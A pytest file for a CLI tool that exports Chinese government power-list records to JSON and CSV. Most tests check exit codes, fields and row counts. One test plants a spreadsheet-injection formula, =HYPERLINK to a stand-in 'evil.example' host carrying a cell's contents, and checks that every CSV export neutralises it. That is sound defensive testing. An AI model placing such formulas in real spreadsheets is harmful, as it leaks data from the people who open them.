"""`powerkg export` through the real console entry point."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

REQUIRED = {"list", "authority", "item_no", "category_no", "power_type", "power_type_as_listed", "power",
            "subitems", "basis_text", "responsibilities", "accountability", "department", "source"}


def run(*args):
    return subprocess.run([sys.executable, "-m", "build_graph.cli", *args], capture_output=True, text=True)


def test_export_records_json():
    result = run("export", "records", "--format", "json")
    assert result.returncode == 0, result.stderr
    rows = json.loads(result.stdout)
    assert len(rows) == 45
    assert REQUIRED <= set(rows[0])
    assert {r["list"] for r in rows} == {"pingshan-ybj", "yuanshi-ybj"}
    assert rows[4]["subitems"] == ["生育医疗费支付", "计划生育医疗费支付", "生育津贴支付"]
    assert rows[0]["source"]["file"] == "pingshan-ybj.txt" and rows[0]["source"]["first_line"] == 54


def test_export_findings_csv():
    result = run("export", "findings", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {"severity", "list", "line", "code", "message"} <= set(rows[0])
    assert sum(1 for r in rows if r["code"] == "missing-department") == 16


def test_bad_file_exits_2_naming_file(tmp_path):
    bad = tmp_path / "empty.txt"
    bad.write_text("", encoding="utf-8")
    result = run("export", "records", str(bad))
    assert result.returncode == 2
    assert "empty.txt: file is empty" in result.stderr


def test_options_in_any_order():
    from conftest import PINGSHAN
    before = run("export", "--format", "json", "records", str(PINGSHAN))
    after = run("export", "records", str(PINGSHAN), "--format", "json")
    assert before.returncode == after.returncode == 0 and before.stdout == after.stdout
    assert len(json.loads(after.stdout)) == 25


def test_formula_cells_are_neutralised_in_every_csv(tmp_path):
    """List text such as =HYPERLINK(…) must not run when a clerk opens a CSV in Excel or WPS."""
    from conftest import PINGSHAN
    lines = PINGSHAN.read_text(encoding="utf-8").split("\n")
    n = next(i for i, line in enumerate(lines) if line.startswith("1\t") and line.count("\t") >= 7)
    cells = lines[n].split("\t")
    cells[2] = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    cells[7] = "+SUM(1,2)"
    lines[n] = "\t".join(cells)
    path = tmp_path / "formula.txt"
    path.write_text("\n".join(lines), encoding="utf-8")
    out = tmp_path / "out"
    assert run("build", str(path), "-o", str(out)).returncode == 0
    texts = {"records": run("export", "records", "--format", "csv", str(path)).stdout,
             "findings.csv": (out / "findings.csv").read_text(encoding="utf-8"),
             "validation.csv": run("validate", "--format", "csv", "-o", str(out)).stdout,
             "query": run("query", "powers-by-type", "--param", "type=行政处罚", "--format", "csv", "-o", str(out)).stdout}
    texts.update({p.name: p.read_text(encoding="utf-8") for p in (out / "analytics").glob("*.csv")})
    for name, text in texts.items():
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@")], name
        if name in ("records", "query"):  # where the name is a cell of its own
            assert any(c.startswith("'=HYPERLINK(") for c in cells), name
    records = list(csv.DictReader(io.StringIO(texts["records"])))
    assert records[0]["remarks"] == "'+SUM(1,2)"  # a 备注 cell that names no office
